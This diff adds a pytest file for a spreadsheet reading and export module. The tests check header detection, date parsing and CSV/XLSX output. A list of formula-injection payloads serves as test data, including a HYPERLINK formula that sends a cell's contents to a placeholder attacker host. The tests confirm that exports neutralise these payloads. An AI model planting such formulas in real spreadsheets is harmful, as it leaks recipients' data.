@@ -1,0 +1,152 @@
+"""Spreadsheet reading finds the real header and survives Excel's habits; writing is safe."""
+
+from __future__ import annotations
+
+import csv
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from sendboard.errors import SendboardError
+from sendboard.outputs.sheets import parse_date, read_sheet, safe_text, write_csv, write_xlsx
+
+ALIASES = {
+    "name": ("full name", "contact"),
+    "email": ("e-mail", "email address"),
+    "due": ("due date", "deadline"),
+}
+INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+def titled_workbook(path: Path) -> Path:
+    book = Workbook()
+    sheet = book.active
+    sheet["A1"] = "Kingsmere SEND Improvement Board — contacts"
+    sheet.merge_cells("A1:D1")
+    sheet["A2"] = "Updated monthly"
+    sheet.merge_cells("A2:D2")
+    sheet.append(["Full name", "E-mail", "Deadline", "Notes"])  # row 3
+    sheet.append(["Ann Abbott", "ann@example.org", datetime(2026, 3, 9), "first"])  # row 4
+    sheet.append([None, "  ", None, None])  # row 5: blank
+    sheet.append(["Ben Bryce", "ben@example.org", 46090, None])  # row 6: a date typed as serial
+    sheet.append(["Cai Carver", None, "09/03/2026", None])  # row 7
+    book.save(path)
+    return path
+
+
+def test_header_is_found_under_merged_title_rows(tmp_path: Path) -> None:
+    sheet = read_sheet(titled_workbook(tmp_path / "c.xlsx"), ALIASES, ["name", "email"])
+    assert sheet.columns == {"name": "Full name", "email": "E-mail", "due": "Deadline"}
+    assert sheet.unmapped == ("Notes",)
+    assert [r.number for r in sheet.rows] == [4, 6, 7]
+    assert [r.values["name"] for r in sheet.rows] == ["Ann Abbott", "Ben Bryce", "Cai Carver"]
+    assert sheet.rows[2].values["email"] is None
+    dues = [parse_date(r.values["due"]) for r in sheet.rows]
+    assert dues == [date(2026, 3, 9)] * 3
+
+
+def test_no_header_row_is_explained(tmp_path: Path) -> None:
+    path = tmp_path / "nothing.csv"
+    path.write_text("a,b\n1,2\n", encoding="utf-8")
+    with pytest.raises(SendboardError, match="no header row naming name, email"):
+        read_sheet(path, ALIASES, ["name", "email"])
+
+
+def test_other_file_types_are_refused(tmp_path: Path) -> None:
+    path = tmp_path / "contacts.ods"
+    path.write_bytes(b"PK")
+    with pytest.raises(SendboardError, match=r"choose a \.csv or \.xlsx"):
+        read_sheet(path, ALIASES, ["name"])
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        (45292, date(2024, 1, 1)),
+        (45292.75, date(2024, 1, 1)),
+        ("45292", date(2024, 1, 1)),
+        ("01/02/2026", date(2026, 2, 1)),
+        ("1/2/26", date(2026, 2, 1)),
+        ("2026-02-01", date(2026, 2, 1)),
+        ("1 February 2026", date(2026, 2, 1)),
+        ("1 Feb 26", date(2026, 2, 1)),
+        (datetime(2026, 2, 1, 9, 30), date(2026, 2, 1)),
+        (date(2026, 2, 1), date(2026, 2, 1)),
+        ("  ", None),
+        (None, None),
+    ],
+)
+def test_dates_as_excel_and_people_write_them(cell: object, expected: date | None) -> None:
+    assert parse_date(cell) == expected
+
+
+def test_text_that_is_not_a_date_is_explained() -> None:
+    with pytest.raises(ValueError, match="'next Tuesday' is not a date"):
+        parse_date("next Tuesday")
+
+
+def test_csv_with_semicolons_in_windows_encoding(tmp_path: Path) -> None:
+    path = tmp_path / "excel-export.csv"
+    text = "Contact;Email address;Due date\r\nZoë Hartley;zoe@example.org;31/03/2026\r\n"
+    path.write_bytes(text.encode("cp1252"))
+    sheet = read_sheet(path, ALIASES, ["name", "email"])
+    assert sheet.rows[0].values == {"name": "Zoë Hartley", "email": "zoe@example.org",
+                                    "due": "31/03/2026"}  # fmt: skip
+    assert sheet.rows[0].number == 2
+
+
+def test_safe_text_leaves_ordinary_values_alone() -> None:
+    assert safe_text("Helen Marsh") == "Helen Marsh"
+    assert safe_text(-2) == -2
+    assert safe_text("=1+1") == "'=1+1"
+
+
+def test_xlsx_export_neutralises_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "out.xlsx"
+    write_xlsx(path, "People", ["Name", "Note", "Count"], [[text, "ok", -3] for text in INJECTIONS])
+    sheet = load_workbook(path).active
+    for row, text in zip(sheet.iter_rows(min_row=2), INJECTIONS, strict=True):
+        assert row[0].data_type == "s"
+        assert row[0].value == "'" + text
+        assert row[2].value == -3 and row[2].data_type == "n"
+    assert sheet.freeze_panes == "A2"
+    assert not list(tmp_path.glob("*.part"))
+
+
+def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    write_csv(path, ["Name", "When"], [[text, date(2026, 3, 9)] for text in INJECTIONS])
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["Name", "When"]
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in INJECTIONS]
+    assert {r[1] for r in rows[1:]} == {"09/03/2026"}
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_neutralised_text_reads_back_as_written(tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"round{suffix}"
+    values = ["+44 1632 960000", "-", "=SUM(A1)", "'quoted'"]
+    rows = [[f"Person {i}", v] for i, v in enumerate(values)]
+    if suffix == ".csv":
+        write_csv(path, ["Name", "Email"], rows)
+    else:
+        write_xlsx(path, "People", ["Name", "Email"], rows)
+    sheet = read_sheet(path, ALIASES, ["name", "email"])
+    assert [r.values["email"] for r in sheet.rows] == values
+
+
+def test_csv_apostrophes_and_cells_over_several_lines(tmp_path: Path) -> None:
+    path = tmp_path / "contacts.csv"
+    path.write_text(
+        "Name,Email,Notes\n"
+        'Grace O\'Connell,grace@example.org,"Chair, PCF\nmeets monthly"\n'
+        "Seán O'Neill,sean@example.org,'+44 7700\n",
+        encoding="utf-8",
+    )
+    sheet = read_sheet(path, ALIASES, ["name", "email"])
+    assert [r.values["name"] for r in sheet.rows] == ["Grace O'Connell", "Seán O'Neill"]
+    assert [r.number for r in sheet.rows] == [2, 3]
+    assert sheet.unmapped == ("Notes",)
